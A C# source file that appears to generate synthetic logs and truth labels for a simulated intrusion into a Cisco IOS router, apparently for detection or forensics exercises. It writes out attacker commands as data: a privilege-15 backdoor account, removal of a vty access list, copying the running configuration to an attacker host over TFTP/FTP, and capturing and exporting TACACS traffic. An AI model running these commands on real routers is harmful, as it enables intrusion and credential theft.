using System.Globalization;
using Breakwater.Scenarios.Background;
using Breakwater.Scenarios.Dialects;
using Breakwater.Scenarios.Shapes;
using Breakwater.Scenarios.Truths;
using Breakwater.Scenarios.World;
using Breakwater.Scenarios.Writing;

namespace Breakwater.Scenarios.Intrusion;

/// <summary>Days 0 and 1: entry, foothold, theft of the configuration, capture of credentials.</summary>
internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationArchive archive)
    : Story(scene, truth, archive)
{
    internal const string Secret = "$9$2yN8v1xQmLr0aE$Xb7dT4cKpWz5oHsJ9uGfRq3iYt6lMvAeCn1wBxQkZ2";

    public void Play()
    {
        if (!Carrier.Plot.IsMutated)
        {
            DateTime time = Enter().AddMinutes(6);
            LogIn(time.AddMinutes(-4));
            Session second = Foothold(time);
            Theft(second.Now.AddMinutes(3), second);
            Capture();
            return;
        }

        if (Has(StageIds.Entry))
        {
            LogIn(Enter().AddMinutes(2));
        }

        if (Has(StageIds.Foothold))
        {
            Foothold(At(StageIds.Foothold, "02:17:09")).Wait(40).Close();
        }

        if (Has(StageIds.Theft))
        {
            Theft(At(StageIds.Theft, "02:24:09"), null);
        }

        if (Has(StageIds.Capture))
        {
            Capture();
        }
    }

    private DateTime Enter()
    {
        DateTime time = At(StageIds.Entry, "02:11:09");
        switch (Scene.Variant)
        {
            case ScenarioVariant.ValidCredentials:
                return time;
            case ScenarioVariant.CpeEntry:
                Uploads(time.AddHours(-9));
                return time;
            default:
                Exploit(time);
                return time;
        }
    }

    private void Exploit(DateTime time)
    {
        string agent = Habit(
            "agent",
            "python-requests/2.31.0",
            "Mozilla/5.0 (X11; Linux x86_64)",
            "Go-http-client/1.1",
            "curl/7.88.1"
        );
        int posts = Habit("posts", 2, 1, 3, 5);
        for (int i = 0; i < posts; i++)
        {
            DateTime at = time.AddSeconds(i * 7);
            Wire.Request(
                Scene,
                "proxy/access.log",
                at,
                Craft.WebAddress,
                "POST",
                Craft.ExploitPath,
                IsBenign("S2.exploit") ? 404 : 200,
                412 + i,
                agent,
                Mark(StageIds.Entry, "T01")
            );
        }

        if (IsBenign("S2.exploit"))
        {
            return;
        }

        Wire.Alert(
            Scene,
            time.AddSeconds(7),
            Craft.WebAddress,
            Cast.Edge.Address,
            80,
            21004545,
            "FOX-SRT - Exploit - CVE-2023-20198 Possibly Successful Exploitation Attempt Observed",
            1,
            Mark(StageIds.Entry, "~T01")
        );
        Scene.Device(
            Cast.Edge,
            time.AddSeconds(9),
            IosShapes.ConfiguredByProgram.With(
                Craft.ExploitPath.EndsWith('s') ? "SEP_webui_wsma_https" : "SEP_webui_wsma_http",
                Craft.LocalAccount,
                "vty0"
            ),
            Mark(StageIds.Entry, "T02", "S2")
        );
    }

    private void Uploads(DateTime time)
    {
        string router = CustomerRouter();
        long left = Carrier.Seed == 0 ? 42_494_651 : 40_000_000 + Scene.Random.Below(9_000_000);
        for (int i = 0; i < 100; i++)
        {
            long size = i == 99 ? left : left / (100 - i);
            left -= size;
            Wire.Upload(
                Scene,
                time.AddSeconds(i * 41),
                router,
                Craft.WebAddress,
                $"/up/{i.ToString("000", CultureInfo.InvariantCulture)}",
                "cisco-IOS",
                size,
                Mark(StageIds.Entry, "T75")
            );
        }

        for (int i = 0; i < 3; i++)
        {
            Wire.Request(
                Scene,
                "proxy/access.log",
                time.AddHours(5).AddSeconds(i * 20),
                router,
                "POST",
                "/acs/cwmp",
                i == 0 ? 401 : 200,
                900,
                "cisco-IOS",
                Mark(StageIds.Entry, "T78")
            );
        }
    }

    private string CustomerRouter() =>
        $"{Carrier.Strangers[0]}.{(Carrier.Seed == 0 ? 66 : 20 + new ScenarioRandom(Carrier.Seed, "customer router").Below(200))}";

    private string Source => Scene.Variant == ScenarioVariant.CpeEntry ? CustomerRouter() : Craft.WebAddress;

    // The first login belongs to the entry, what follows to the foothold.
    private void LogIn(DateTime time)
    {
        string[] proves = Scene.Variant switch
        {
            ScenarioVariant.CpeEntry => ["T08", "T09", "S1"],
            ScenarioVariant.ValidCredentials => ["T08", "S1"],
            _ => ["T03", "S1", "S2"],
        };
        new Session(
            Scene,
            Cast.Edge,
            EdgeAccountIn(StageIds.Entry),
            Source,
            time,
            Typing(StageIds.Entry, proves) with
            {
                LocalPort = IsExploited && !IsBenign("S2.exploit") ? 21111 : 22,
            }
        )
            .Wait(60)
            .Close();
    }

    // S2 is one story only where its parts lie within a day.
    private bool IsTakeover =>
        IsExploited && At(StageIds.Foothold, "02:17:09") - At(StageIds.Entry, "02:11:09") < TimeSpan.FromHours(23);

    private Session Foothold(DateTime time)
    {
        bool exploited = IsTakeover;
        Session session = new(
            Scene,
            Cast.Edge,
            EdgeAccountIn(StageIds.Foothold),
            Source,
            time,
            Typing(StageIds.Foothold) with
            {
                LocalPort = exploited && !IsBenign("S2.exploit") ? 21111 : 22,
            }
        );
        string[] account = exploited ? ["T30", "S2"] : ["T30"];
        string[] access = exploited ? ["T38", "S2"] : ["T38"];
        if (IsBenign("S2.account"))
        {
            session.Configure([], $"interface {Craft.CaptureInterface}", "description uplink");
        }
        else
        {
            session.Configure(account, Account());
            ShapedLine saved = SnapshotShapes.Username.With(Craft.LocalAccount, Secret);
            Archive.Add(session.Now, Cast.Edge, [saved], Mark(StageIds.Foothold, "T30"));
        }

        session.Begin().Statement("line vty 0 4", "~T38");
        session.Statement(
            IsBenign("S2.access") ? "exec-timeout 15 0" : $"no access-class {Craft.AccessClass} in",
            access
        );
        DateTime opened = session.Now;
        Session second = new(
            Scene,
            Cast.Edge,
            IsBenign("S2.login") ? Carrier.People.Engineers[2] : Craft.LocalAccount,
            IsBenign("S2.login") ? Jump : Craft.ShellAddress,
            IsBenign("S2.login") ? opened.AddHours(-3) : opened.AddSeconds(15),
            Typing(StageIds.Foothold, exploited ? ["S2"] : [])
        );
        session.Wait(Carrier.Seed == 0 ? 42 : 20 + Scene.Random.Below(25));
        session.Statement($"access-class {Craft.AccessClass} in", access).End().Close();
        return second;
    }

    private void Theft(DateTime start, Session? previous)
    {
        string[] recon = ["T20", "S1"];
        string[] commands =
        [
            "terminal length 0",
            "terminal width 0",
            "show clock",
            "show version",
            "show running-config",
            "show tacacs",
            "show cdp neighbors",
            "show file systems",
            "show platform software status control-processor",
            "dir bootflash:",
        ];
        Session reading = new(
            Scene,
            Cast.Edge,
            EdgeAccountIn(StageIds.Theft),
            IsBenign("S1.login") ? Jump : Craft.ShellAddress,
            start,
            Typing(StageIds.Theft, "S1")
        );
        previous?.Close();
        foreach (string command in IsBenign("S1.recon") ? ["show clock", "show version"] : commands)
        {
            reading.Command(command, command == "show running-config" ? [.. recon, "~T23"] : recon);
        }

        bool tftp = Carrier.Seed == 0 || Carrier.Seed % 3 != 1;
        string host = IsBenign("S1.copy") ? Carrier.Servers.Backup.Address : Craft.WebAddress;
        string target = tftp ? $"tftp://{host}/{Craft.ConfigurationFile}" : $"ftp://{host}/{Craft.ConfigurationFile}";
        string copy = Habit(
            "copy",
            $"copy running-config {target}",
            $"copy startup-config {target}",
            $"copy nvram:startup-config {target}",
            $"copy system:running-config {target}",
            $"show running-config | redirect {target}"
        );
        reading.Command(copy, "T23", "T74", "S1");
        Conversation talk = new(Cast.Edge.Address, host, tftp ? 69 : 21, tftp ? "udp" : "tcp")
        {
            Service = tftp ? "-" : "ftp",
            Seconds = 9,
            BytesOut = 62_464,
            BytesIn = 488,
        };
        Wire.Connection(Scene, reading.Now.AddSeconds(2), talk, Mark(StageIds.Theft, "~T74"));
        Trail.Conversation(Scene, Cast.Edge, reading.Now.AddSeconds(2), talk, Mark(StageIds.Theft, "T74"));
        reading.Close();
    }

    private string Account() =>
        Habit(
            "account",
            $"username {Craft.LocalAccount} privilege 15 secret 9 {Secret}",
            $"username {Craft.LocalAccount} privilege 15 secret 0 *",
            $"username {Craft.LocalAccount} privilege 15 algorithm-type scrypt secret *"
        );

    private string CaptureFilter()
    {
        string server = Carrier.Servers.Tacacs[0].Address;
        return Habit(
            "filter",
            "match ipv4 protocol tcp any any eq 49",
            "match ipv4 protocol tcp any any eq tacacs",
            $"match ipv4 protocol tcp any host {server} eq 49",
            "match ipv4 protocol tcp any eq 49 any"
        );
    }

    private void Capture()
    {
        Session session = new(
            Scene,
            Cast.Edge,
            EdgeAccountIn(StageIds.Capture),
            Craft.ShellAddress,
            At(StageIds.Capture, "08:52:30"),
            Typing(StageIds.Capture, "S3")
        );
        string name = Craft.CaptureName;
        string[] proves = ["T60", "S3"];
        session.Command($"monitor capture {name} interface {Craft.CaptureInterface} both", "~T60", "S3");
        string filter = IsBenign("S3.capture") ? "match ipv4 protocol 89 any any" : CaptureFilter();
        session.Command($"monitor capture {name} {filter}", proves);
        session.Command($"monitor capture {name} start", "~T60", "S3");
        session.Log(IosShapes.Capture.With("ENABLE", name, "enabled"), "~T60", "S3");
        session.Wait(2400);
        session.Command($"monitor capture {name} stop", "~T60", "S3");
        session.Log(IosShapes.Capture.With("DISABLE", name, "disabled"), "~T60", "S3");
        if (IsBenign("S3.export"))
        {
            session.Command($"show monitor capture {name} buffer brief").Close();
            return;
        }

        string file = Habit("store", "bootflash:", "flash:", "harddisk:", "bootflash:tracelogs/") + Craft.CaptureFile;
        session.Command($"monitor capture {name} export {file}", "~T60", "S3");
        session.Command($"copy {file} ftp://{Craft.WebAddress}/", "T74", "S3");
        Conversation talk = new(Cast.Edge.Address, Craft.WebAddress, 21, "tcp")
        {
            Service = "ftp",
            Seconds = 24,
            BytesOut = 1_904_220,
            BytesIn = 2_210,
        };
        Wire.Connection(Scene, session.Now.AddSeconds(3), talk, Mark(StageIds.Capture, "~T74"));
        Trail.Conversation(Scene, Cast.Edge, session.Now.AddSeconds(3), talk, Mark(StageIds.Capture, "T74"));
        session.Close();
    }
}
